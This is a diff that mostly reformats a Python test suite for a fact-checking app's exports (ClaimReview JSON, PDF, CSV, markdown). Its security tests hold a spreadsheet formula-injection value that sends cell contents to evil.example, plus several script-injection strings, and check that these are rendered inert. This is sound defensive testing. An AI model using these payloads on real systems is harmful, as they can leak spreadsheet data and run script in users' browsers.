@@ -2,6 +2,7 @@
 
 import csv
 import json
+from datetime import UTC
 
 from bs4 import BeautifulSoup
 from sqlmodel import select
@@ -29,8 +30,15 @@ def _reviewed(session, settings, *, published=True):
     items = drafts.for_ticket(session, ticket.id)
     drafts.approve(session, actor=editor, item_id=items[0].id, expected_version=1)
     drafts.reject(session, actor=editor, item_id=items[1].id, expected_version=1)
-    transition(session, actor=editor, ticket_id=ticket.id, to="disputed", rationale="The minutes say 6-3, not 7-2.",
-               expected_version=1, rating="Misleading")
+    transition(
+        session,
+        actor=editor,
+        ticket_id=ticket.id,
+        to="disputed",
+        rationale="The minutes say 6-3, not 7-2.",
+        expected_version=1,
+        rating="Misleading",
+    )
     if published:
         publishing.publish(session, actor=editor, ticket_id=ticket.id, expected_version=ticket.version)
     session.commit()
@@ -48,7 +56,11 @@ def test_claimreview_has_googles_required_and_recommended_fields(session, settin
     assert r["author"] == {"@type": "Organization", "name": "Test Desk", "url": "https://desk.example/"}
     rating = r["reviewRating"]
     assert (rating["alternateName"], rating["ratingValue"], rating["bestRating"], rating["worstRating"]) == (
-        "Misleading", 2, 5, 1)
+        "Misleading",
+        2,
+        5,
+        1,
+    )
     assert r["itemReviewed"]["@type"] == "Claim"
     assert r["itemReviewed"]["appearance"][0]["url"] == "https://news.example/riverton"
     assert len(r["datePublished"]) == 10
@@ -59,9 +71,16 @@ def test_claimreview_holds_only_published_verdicts_dated_by_first_publication_wi
     assert json.loads(_report(session, settings, "claimreview")) == []
     ed = session.exec(select(User).where(User.name == "ed")).one()
     published = publishing.publish(session, actor=ed, ticket_id=ticket.id, expected_version=ticket.version)
-    transition(session, actor=ed, ticket_id=ticket.id, to="corroborated", rationale="The recording says 7-2.",
-               expected_version=published.version, rating="True",
-               correction="We relied on draft minutes; the approved minutes say 7-2.")
+    transition(
+        session,
+        actor=ed,
+        ticket_id=ticket.id,
+        to="corroborated",
+        rationale="The recording says 7-2.",
+        expected_version=published.version,
+        rating="True",
+        correction="We relied on draft minutes; the approved minutes say 7-2.",
+    )
     again = publishing.publish(session, actor=ed, ticket_id=ticket.id, expected_version=ticket.version)
     session.commit()
     [r] = json.loads(_report(session, settings, "claimreview"))
@@ -139,14 +158,22 @@ def test_the_pdf_starts_its_content_on_page_one_numbers_its_pages_and_prints_eac
 
     result, ticket, _ = _reviewed(session, settings)
     for i in range(12):  # enough claims for several pages
-        extra = ingest(session, settings, text=f"Harbor story {i}\n\nThe harbor moved {100 + i} ships in 2024, "
-                                               f"according to the port authority.\n",
-                       url=f"https://news.example/harbor-{i}")
+        extra = ingest(
+            session,
+            settings,
+            text=f"Harbor story {i}\n\nThe harbor moved {100 + i} ships in 2024, according to the port authority.\n",
+            url=f"https://news.example/harbor-{i}",
+        )
         tickets_ = extra.tickets
         if tickets_:
-            transition(session, actor=session.exec(select(User).where(User.name == "ed")).one(),
-                       ticket_id=tickets_[0].id, to="corroborated", rationale="The port's annual report, p. 3.",
-                       expected_version=1)
+            transition(
+                session,
+                actor=session.exec(select(User).where(User.name == "ed")).one(),
+                ticket_id=tickets_[0].id,
+                to="corroborated",
+                rationale="The port's annual report, p. 3.",
+                expected_version=1,
+            )
     session.commit()
     pdf = exports.prepare(session, actor=CONSOLE, fmt="pdf", selection=Selection(), settings=settings).content
     pages = [p.extract_text() for p in pypdf.PdfReader(BytesIO(pdf)).pages]
@@ -164,13 +191,21 @@ def test_pdf_report_is_a_pdf(session, settings):
 
 
 def test_a_selection_narrows_by_article_date_range_reviewer_and_state(session, settings):
-    from datetime import datetime, timedelta, timezone
+    from datetime import datetime, timedelta
 
     result, ticket, _ = _reviewed(session, settings)
-    other = ingest(session, settings, text="Marlow port handled 2.1 million containers in 2024, the port authority said.\n")
+    other = ingest(
+        session, settings, text="Marlow port handled 2.1 million containers in 2024, the port authority said.\n"
+    )
     erin = make_user(session, "erin", "editor")
-    transition(session, actor=erin, ticket_id=other.tickets[0].id, to="corroborated", rationale="Annual report, p. 3.",
-               expected_version=1)
+    transition(
+        session,
+        actor=erin,
+        ticket_id=other.tickets[0].id,
+        to="corroborated",
+        rationale="Annual report, p. 3.",
+        expected_version=1,
+    )
     session.commit()
 
     def ids(**sel):
@@ -181,15 +216,16 @@ def test_a_selection_narrows_by_article_date_range_reviewer_and_state(session, s
     assert sorted(ids()) == sorted([ticket.id, other.tickets[0].id])
     assert ids(reviewer_id=erin.id) == [other.tickets[0].id]
     assert ids(state="disputed") == [ticket.id]
-    today = datetime.now(timezone.utc).date()
+    today = datetime.now(UTC).date()
     assert len(ids(since=today - timedelta(days=1), until=today + timedelta(days=1))) == 2
     assert ids(since=today + timedelta(days=1)) == []
     assert ids(until=today - timedelta(days=1)) == []
 
 
 def test_a_selection_that_makes_no_sense_is_refused(session, settings):
-    import pytest
     from datetime import date
+
+    import pytest
 
     from factcheck.core.errors import InvalidInput
 
@@ -210,8 +246,14 @@ def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_plain_text(sessi
     ticket = result.tickets[0]
     evil = '=HYPERLINK("http://evil.example/?x="&B2,"Minutes")'
     tickets.add_note(session, actor=editor, ticket_id=ticket.id, text=evil, url=None)
-    transition(session, actor=editor, ticket_id=ticket.id, to="disputed", rationale="@SUM(1+1) the minutes say 6-3",
-               expected_version=1)
+    transition(
+        session,
+        actor=editor,
+        ticket_id=ticket.id,
+        to="disputed",
+        rationale="@SUM(1+1) the minutes say 6-3",
+        expected_version=1,
+    )
     session.commit()
     rows = list(csv.DictReader(io.StringIO(_report(session, settings, "csv"))))
     row = next(r for r in rows if r["ticket_id"] == str(ticket.id))
@@ -229,8 +271,11 @@ def test_a_link_that_is_not_a_url_is_refused_where_a_person_types_it(client, ses
 
     ticket = ingest(session, settings).tickets[0]
     token = make_token(session, make_user(session, "rita", "reviewer"))
-    refused = client.post(f"/api/v1/tickets/{ticket.id}/notes", headers={"Authorization": f"Bearer {token}"},
-                          json={"text": "The minutes.", "url": HOSTILE_URL})
+    refused = client.post(
+        f"/api/v1/tickets/{ticket.id}/notes",
+        headers={"Authorization": f"Bearer {token}"},
+        json={"text": "The minutes.", "url": HOSTILE_URL},
+    )
     assert refused.status_code == 422 and "percent-encoded" in refused.json()["error"]["message"]
 
 
@@ -242,8 +287,14 @@ def test_markdown_renders_every_stored_text_and_link_as_text_never_as_html(sessi
     result, ticket, items = _reviewed(session, settings)
     # As stored before the input rules refused such links, and as a search connector once found one.
     editor = session.exec(select(User).where(User.name == "ed")).one()
-    session.add(Note(ticket_id=ticket.id, author_id=editor.id, text="*Minutes* <img src=x onerror=alert(1)> [x](y)",
-                     url=HOSTILE_URL))
+    session.add(
+        Note(
+            ticket_id=ticket.id,
+            author_id=editor.id,
+            text="*Minutes* <img src=x onerror=alert(1)> [x](y)",
+            url=HOSTILE_URL,
+        )
+    )
     source = session.get(DraftItem, items[0].id)
     source.text = "Council minutes\n\n<script>alert(2)</script>"
     source.url = 'https://search.example/r?q="><iframe src=javascript:alert(3)>'
